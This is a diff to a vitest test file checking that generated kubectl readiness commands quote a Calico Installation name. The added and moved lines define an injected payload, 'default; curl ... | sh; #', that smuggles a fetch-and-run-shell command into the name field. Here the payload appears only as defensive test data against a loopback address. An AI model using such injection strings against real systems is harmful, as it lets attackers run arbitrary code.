@@ -2,7 +2,7 @@ import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
 import { loadPreset } from '../presets/catalog';
 import { compileScenario } from '../trace/cluster';
-import { checkReadiness } from './check';
+import { bgpCommand, checkReadiness, poolEncapsulationCommand } from './check';
 import { shellJson, shellQuote } from './shell';
 
 /** What a POSIX shell makes of `word`: the arguments it passes on, one per line. */
@@ -25,17 +25,25 @@ describe('shellQuote', () => {
 });
 
 describe('readiness commands from a hostile scenario', () => {
+  const payload = 'default; curl -s http://127.0.0.1:9/x | sh; #';
+
+  it('the command builders quote the Installation name: the payload stays one argument', () => {
+    for (const c of [bgpCommand(payload, 'Disabled'), poolEncapsulationCommand(payload, 0, 'VXLAN')]) {
+      const words = shellWords(c);
+      expect(words.slice(0, 4)).toEqual(['kubectl', 'patch', 'installation', payload]);
+      expect(words.filter((w) => w.includes('curl'))).toEqual([payload]);
+    }
+  });
+
   it('an Installation named with shell in it never reaches a command unquoted', () => {
-    const payload = 'default; curl -s http://127.0.0.1:9/x | sh; #';
     const loaded = loadPreset('k8s-main-before');
     // The loader refuses such a name (DNS-1123); quoting must hold whatever the source, so the name is set after loading.
     const scenario = structuredClone(loaded.scenario!);
     scenario.calico!.installation = { ...scenario.calico!.installation!, name: payload };
-    const cluster = compileScenario(scenario);
-    const commands = checkReadiness(scenario, cluster, { planWindows: true }).flatMap((f) => f.fix?.commands ?? []);
+    const commands = checkReadiness(scenario, compileScenario(scenario), { planWindows: true }).flatMap((f) => f.fix?.commands ?? []);
     expect(commands.some((c) => c.includes('curl'))).toBe(true);
     for (const c of commands) {
-      // The shell sees kubectl's arguments only: the payload, if present, is one argument.
+      // The shell sees kubectl's arguments only: the payload is one argument.
       const words = shellWords(c);
       expect(words[0]).toBe('kubectl');
       expect(words.filter((w) => w.includes('curl')).every((w) => w === payload)).toBe(true);
